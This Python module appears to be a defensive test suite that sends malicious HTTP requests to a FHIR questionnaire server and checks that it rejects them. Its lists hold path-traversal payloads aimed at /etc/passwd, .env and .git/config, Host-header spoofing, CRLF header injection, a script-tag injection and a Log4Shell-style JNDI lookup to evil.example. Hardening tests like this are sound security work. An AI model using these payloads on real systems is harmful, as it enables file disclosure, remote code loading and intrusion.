"""Addresses, hosts, methods and headers that lead elsewhere."""

from __future__ import annotations

from collections.abc import Iterator

from attack_case import Attack, attack
from attack_wire import posted, request
from live_messages import CANARY, FHIR, encoded, response

_GOOD = encoded(response("attacked", "p1", status="stopped"))
_PATHS = (
    "/fhir/../../../../etc/passwd",
    "/fhir/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/../../../../../../etc/passwd",
    "/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/static/..%5c..%5cetc%5cpasswd",
    "/static/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd",
    "/static/%252e%252e%252fetc%252fpasswd",
    "/static//etc/passwd",
    "//etc/passwd",
    "///etc///passwd",
    "/static/%00",
    "/static/bridge.css%00.html",
    "/fhir/QuestionnaireResponse/%00",
    "/fhir/QuestionnaireResponse/..%2f..%2fetc%2fpasswd",
    "/chart/..%2f..%2fetc%2fpasswd",
    "/chart/%00",
    "/fhir/%0d%0aX-Injected:%201",
    "/fhir/%ff%fe",
    "/fhir/%zz",
    "/fhir/metadata/" + "a/" * 2000,
    "/.git/config",
    "/.env",
    "/console?__debugger__=yes&cmd=1",
)
_HOSTS = (
    "evil.example",
    "127.0.0.1.evil.example",
    "localhost.evil.example",
    "127.0.0.1@evil.example",
    "evil.example:80@127.0.0.1",
    "[::1].evil.example",
    "127.0.0.1/evil.example",
    "0.0.0.0",
    "127.0.0.1:99999999",
    "127.0.0.1, evil.example",
    "evil.example#127.0.0.1",
    "",
)


def attacks() -> Iterator[Attack]:
    """All of them."""
    for path in _PATHS:
        name = path if len(path) < 60 else f"{path[:30]}... ({len(path)} characters)"
        yield attack("address", name, request("GET", path), expected=[400, 404, 405, 414])
    yield attack("address", "of 100 kB", request("GET", "/fhir/" + "a" * 100_000), expected=[400, 404, 414, 431])
    yield attack(
        "address",
        "10,000 parameters",
        request("GET", "/fhir/metadata?" + "a=1&" * 10_000),
        expected=[200, 400, 414, 431],
    )
    yield attack(
        "address",
        "with a password file as id",
        request("PUT", "/fhir/QuestionnaireResponse/%2fetc%2fpasswd", _GOOD, ("Content-Type", FHIR)),
        expected=[400, 404],
    )
    yield from _hosts()
    yield from _methods()
    yield from _headers()


def _hosts() -> Iterator[Attack]:
    for host in _HOSTS:
        yield attack("host", host or "(empty)", request("GET", "/fhir/metadata", host=host), expected=[400])
    none = b"GET /fhir/metadata HTTP/1.1\r\nConnection: close\r\n\r\n"
    yield attack("host", "(none)", none, expected=[400])
    two = request("GET", "/fhir/metadata", b"", ("Host", "evil.example"))
    yield attack("host", "two", two, expected=[400])
    other = request("GET", "http://evil.example/fhir/metadata")  # 200 says what we are, and never that name
    yield attack("host", "another in the first line", other, expected=[200, 400])
    yield attack(
        "host",
        "a port in the first line, to connect to",
        request("CONNECT", "evil.example:443"),
        expected=[400, 404, 405, 501],
    )
    yield attack("host", "OPTIONS *", request("OPTIONS", "*"), expected=[200, 400, 404, 405])


def _methods() -> Iterator[Attack]:
    for method in ("TRACE", "DELETE", "PATCH", "OPTIONS", "FOO", "get"):
        data = request(method, "/fhir/QuestionnaireResponse/attacked")
        yield attack(
            "method", f"{method} /fhir/QuestionnaireResponse/attacked", data, expected=[200, 400, 404, 405, 501]
        )
    yield attack("method", "POST /healthz", request("POST", "/healthz"), expected=[405])
    yield attack("method", "PUT /fhir", request("PUT", "/fhir", _GOOD, ("Content-Type", FHIR)), expected=[405])
    hidden = request("GET", "/fhir/metadata", b"", ("X-HTTP-Method-Override", "DELETE"))
    yield attack("method", "DELETE in X-HTTP-Method-Override", hidden, expected=[200])


def _headers() -> Iterator[Attack]:
    get = "/fhir/metadata"
    yield attack("header", "one of 100 kB", request("GET", get, b"", ("X-Long", "a" * 100_000)), expected=[400, 431])
    many = tuple((f"X-{number}", "1") for number in range(10_000))
    yield attack("header", "10,000", request("GET", get, b"", *many), expected=[400, 431])
    yield attack(
        "header", "a cookie of 7 kB", request("GET", get, b"", ("Cookie", "a=" + "b" * 7000)), expected=[200, 400, 431]
    )
    for name, value in (
        ("a carriage return", "abc\rX-Injected: 1"),
        ("a line end", "abc\nX-Injected: 1"),
        ("NUL", "abc\x00def"),
        ("an escape", "abc\x1b[2J"),
        ("200 characters", "a" * 200),
        ("other letters", "\xe4\xf6\xfc"),
        ("markup", "<script>alert(1)</script>"),
        ("a format", "{0.__class__} %(message)s ${jndi:ldap://evil.example/a}"),
    ):
        yield attack(
            "header",
            f"X-Request-Id with {name}",
            request("GET", get, b"", ("X-Request-Id", value)),
            expected=[200, 400],
        )
    for name, value in (
        ("Content-Length", "abc"),
        ("Expect", "200-maybe"),
        ("If-Match", f'W/"{CANARY}"'),
        ("If-None-Exist", f"identifier={CANARY}"),
        ("Prefer", "respond-async, return=" + "x" * 5000),
        ("Range", "bytes=0-1,0-1,0-1,0-1"),
        ("Authorization", f"Bearer {CANARY}"),
        ("Authorization", "Basic " + "A" * 5000),
        ("Accept-Encoding", "gzip;q=abc, *;q=-1"),
        ("Accept-Language", "de-" * 2000),
        ("X-Forwarded-Host", "evil.example"),
        ("X-Forwarded-For", f"{CANARY}, 10.0.0.1"),
        ("Forwarded", "host=evil.example;proto=https"),
        ("Content-Location", "http://evil.example/"),
    ):
        unlike = response("attacked", "p1", status="stopped", authored=f"2013-06-01T10:00:{len(name):02}Z")
        data = posted(encoded(unlike), (name, value))
        yield attack(
            "header",
            f"{name}: {value if len(value) < 50 else value[:40] + '...'}",
            data,
            expected=[200, 201, 202, 400, 401, 403, 412, 417],
        )
